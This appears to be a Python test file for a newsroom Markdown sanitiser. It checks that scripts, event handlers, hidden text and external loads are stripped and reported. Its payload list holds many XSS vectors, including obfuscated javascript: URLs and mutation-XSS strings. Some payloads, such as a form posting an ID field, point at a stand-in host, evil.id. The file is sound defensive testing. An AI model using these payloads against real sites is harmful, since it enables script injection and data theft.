"""Nothing that acts, hides or loads survives in a body, and nothing is removed without a word."""

from __future__ import annotations

import re

import html5lib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from plugins.engine.problem import Problem
from plugins.newsroom.body import Body
from plugins.newsroom.markup.allowlist import ALLOWED
from plugins.newsroom.markup.cleaning import hides
from plugins.newsroom.markup.reader import BodyConfig, BodyReader

READER = BodyReader(BodyConfig(site_url="https://kominfo.contoh.go.id"))
SCHEMES = ("http:", "https:", "mailto:", "tel:", "geo:", "site:", "#")
HTML = "{http://www.w3.org/1999/xhtml}"


def read(text: str, line: int = 1) -> tuple[Body, list[Problem]]:
    body, problems = READER.read(text, file="berita/2025/a.md", slug="kabar", first_line=line)
    assert "N105" not in [problem.code for problem in problems], problems
    return body, list(problems)


def assert_safe(body: Body) -> None:
    for html in (body.html, *(note.html for note in body.footnotes)):
        tree = html5lib.HTMLParser(strict=True).parseFragment(html)
        for element in tree.iter():
            if element.tag == "DOCUMENT_FRAGMENT":
                continue
            assert isinstance(element.tag, str), "a comment survived"
            assert element.tag.removeprefix(HTML) in ALLOWED
            for name, value in element.attrib.items():
                assert not name.startswith("on")
                assert name not in {"style", "srcdoc", "target", "hidden", "aria-hidden", "formaction"}
                if name in {"href", "src"}:
                    assert value.startswith(SCHEMES), value


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.id/x.js></sCrIpT>",
    "Teks <script>alert(1)</script> teks",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(1) alt=x>",
    '<img src="javascript:alert(1)" alt="x">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">',
    "![x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<  javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](\x01javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<javascript://%0aalert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&Tab;javascript:alert(1)">x</a>',
    "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    '<a href="blob:https://evil.id/1">x</a>',
    '<a href="/a/" onclick="alert(1)">x</a>',
    '<a href="/a/" target="_blank">tautan</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>isi</object>",
    "<embed src=//evil.id/x.swf>",
    "<form action=//evil.id><input name=nik><button>Kirim</button></form>",
    "<base href=//evil.id/>",
    "<meta http-equiv=refresh content='0;url=//evil.id'>",
    "<link rel=stylesheet href=//evil.id/x.css>",
    "<style>body{display:none}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    '<p style="display:none">kata kunci</p>',
    "<span style='DISPLAY : NONE'>kata kunci</span>",
    "<span style='font-size:0px'>kata kunci</span>",
    "<span style='position:absolute;left:-9999px'>kata kunci</span>",
    "<span style='opacity:0'>kata kunci</span>",
    "<span style='color:#fff;background:#fff'>kata kunci</span>",
    "<span hidden>kata kunci</span>",
    "<div aria-hidden=true>kata kunci</div>",
    "<span class=sr-only>kata kunci</span>",
    "<!-- <a href=https://evil.id>judi</a> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element>x</custom-element>",
    "<b onmouseover\n=\nalert(1)>x</b>",
    "<div\x0conclick=alert(1)>x</div>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "Kata[^1]\n\n[^1]: <script>alert(1)</script> isi",
    "# <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    '[x](/a/ "t\\" onclick=alert(1)")<b onclick=a>x</b>',
    "teks \u202etxet kilabret",
    "<b>x</b><![x](data:text/html,<script>alert(1)</script>) <i>y</i>",
    "## Judul[^1]{#x}",
    "![Foto[^1]](/a.png)",
    "<table>teks<tr>lagi<td>sel</td></tr></table>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_executable_survives_and_a_problem_says_so(payload: str) -> None:
    body, problems = read(f"Pembuka.\n\n{payload}\n\nPenutup.", line=3)
    assert problems
    assert_safe(body)
    assert "Pembuka." in body.text
    assert "Penutup." in body.text


@pytest.mark.parametrize(
    ("text", "code", "line"),
    [
        ("a\n\n<script>x</script>\n", "N130", 7),
        ("a\nb <b onclick='x'>c</b>\n", "N132", 6),
        ("a\n\nb <span hidden>c</span>\n", "N135", 7),
        ("a\n\nb <b>c\n\nd\n", "N137", 7),
        ("a\n\nb </b> c\n", "N138", 7),
        ("a\n\nb <img src=x c\n", "N139", 7),
        ("<font color=red>a</font>\n", "N131", 5),
        ("a\n\n<p align=center>b</p>\n", "N133", 7),
        ("a\n\n<p style='color:red'>b</p>\n", "N134", 7),
        ("a\n\n<!-- https://evil.id -->\n", "N136", 7),
        ("`<script>`\n\n```\n<script>\n```\n\n<script>x</script>\n", "N130", 11),
    ],
)
def test_a_removal_is_reported_at_its_line(text: str, code: str, line: int) -> None:
    assert (code, line) in [(problem.code, problem.line) for problem in read(text, line=5)[1]]


def test_the_words_inside_a_removed_wrapper_stay() -> None:
    body, _ = read("<center><font size=2>Maklumat pelayanan</font></center>\n\n<form>Isi formulir</form>\n")
    assert "Maklumat pelayanan" in body.text
    assert "Isi formulir" in body.text


def test_an_unclosed_tag_ends_with_its_paragraph() -> None:
    body, problems = read("Satu <strong>dua\n\nTiga\n")
    assert body.html == "<p>Satu <strong>dua</strong></p>\n<p>Tiga</p>"
    assert [problem.code for problem in problems] == ["N137"]


def test_html_of_running_text_passes_untouched() -> None:
    text = (
        '<details open><summary>Dasar hukum</summary><p>UU <abbr title="Keterbukaan Informasi Publik">KIP</abbr></p>'
        '</details>\n\n<figure><img src="media/a.jpg" alt="Warga antre" width="640" height="480"><figcaption>Antrean'
        '</figcaption></figure>\n\n<p lang="en" id="quote"><q>Open <kbd>Ctrl</kbd></q> <cite>X</cite> H<sub>2</sub>O '
        '<time datetime="2025-01-15">kemarin</time> <mark>tanda</mark></p>\n\n<!-- catatan redaksi: cek ulang -->\n'
        '\n<table><tr><th scope="row">a</th><td colspan="2">b</td></tr></table>\n'
    )
    body, problems = read(text)
    assert not problems
    assert_safe(body)
    for part in ("<details open", '<abbr title="', '<img src="site:@media/a.jpg"', 'id="kabar-quote"', 'colspan="2"'):
        assert part in body.html
    assert "redaksi" not in body.html


def test_less_than_signs_and_entities_in_prose_are_text() -> None:
    body, problems = read("Usia < 17 tahun & 3 < 5, tulis &lt;script&gt; atau `<script>`.\n")
    assert not problems
    assert "&lt;script&gt; atau" in body.html
    assert_safe(body)


@pytest.mark.parametrize(
    "style",
    ["display:none", "visibility: hidden", "font-size:0", "text-indent:-9999px", "color:white", "d\\69splay:none",
     "display/**/:none", "height:0;overflow:hidden", "color:red;background:red", "opacity:.0"],
)  # fmt: skip
def test_styles_that_hide_are_recognised(style: str) -> None:
    assert hides(style)


@pytest.mark.parametrize("style", ["color:red", "font-size:10px", "margin-left:10px", "opacity:0.9", "width:100px"])
def test_other_styles_do_not_hide(style: str) -> None:
    assert not hides(style)


PIECES = st.sampled_from(
    [*PAYLOADS, "\n", "\n\n", "# ", "> ", "- ", "1. ", "    ", "| a | b |\n|---|---|\n| c | d |\n", "[^1]", "[^1]: x\n",
     "*", "**", "_", "`", "```\n", "~~~\n", "[", "](", ")", "![", "<", ">", "&", "\\", '"', "'", "--", "...", "kata ",
     "<b>", "</b>", "<p>", "</p>", "<div>", "</div>", "<a href=/x/>", "</a>", "<table>", "<tr>", "<td>", "</td>",
     "<ul>", "<li>", "</ul>", "<h2>", "</h2>", "<pre>", "</pre>", "<code>", "</code>", ": ", "{#x}", "&#8203;", "<q>",
     "<details>", "<summary>", "<dl>", "<dt>", "<figure>", "<caption>", "<col>", "<br>", "<hr>", "<ins>", "<!--", "-->"]
)  # fmt: skip


@settings(max_examples=150, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(PIECES | st.text(max_size=8), max_size=14).map("".join))
def test_any_mixture_gives_safe_valid_html_and_never_an_exception(text: str) -> None:
    body, _ = read(text)
    assert_safe(body)
    ids = re.findall(r'\bid="([^"]*)"', body.html + "".join(note.html for note in body.footnotes))
    assert len(ids) == len(set(ids))
    prose = re.sub(r"<(pre|code|kbd|samp|var)\b.*?</\1>", "", body.html, flags=re.DOTALL)
    assert "[^" not in prose


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.text())
def test_any_text_gives_a_body(text: str) -> None:
    body, problems = read(text)
    assert isinstance(body, Body)
    assert all(problem.line >= 1 and problem.file == "berita/2025/a.md" for problem in problems)
    assert_safe(body)
